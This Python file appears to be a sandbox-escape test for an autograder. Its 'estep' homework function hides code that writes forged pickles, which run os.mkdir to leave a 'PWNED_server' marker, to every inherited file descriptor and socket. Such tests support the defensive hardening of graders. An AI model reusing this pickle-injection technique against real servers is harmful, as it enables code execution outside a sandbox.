"""Writes forged pickles, forkserver orders and messages to every descriptor that the kernel inherited."""

TRACE = "PWNED_server"

CELLS = {
    "estep": r"""
import os
import pickle
import socket
import stat
import struct

import numpy as np

mark = "PWN" + "ED_server"


class Order:
    def __reduce__(self):
        return (os.mkdir, ("@COURSE@/" + mark,))


payload = pickle.dumps(Order())
orders = [payload, struct.pack("!i", len(payload)) + payload, b"\x08\0\0\0" + payload, b"\xff" * 64, b"\0" * 4096]


def estep(X, mixture):
    for number in range(256):
        try:
            mode = os.fstat(number).st_mode
            os.set_blocking(number, False)
        except OSError:
            continue
        for order in orders:
            try:
                os.write(number, order)
            except OSError:
                pass
            if stat.S_ISSOCK(mode):
                try:
                    pipe = socket.socket(fileno=os.dup(number))
                    socket.send_fds(pipe, [order], [0, 1, 2])
                except (OSError, ValueError):
                    pass
    return np.zeros((len(X), len(mixture.p))), 0.0
""",
}
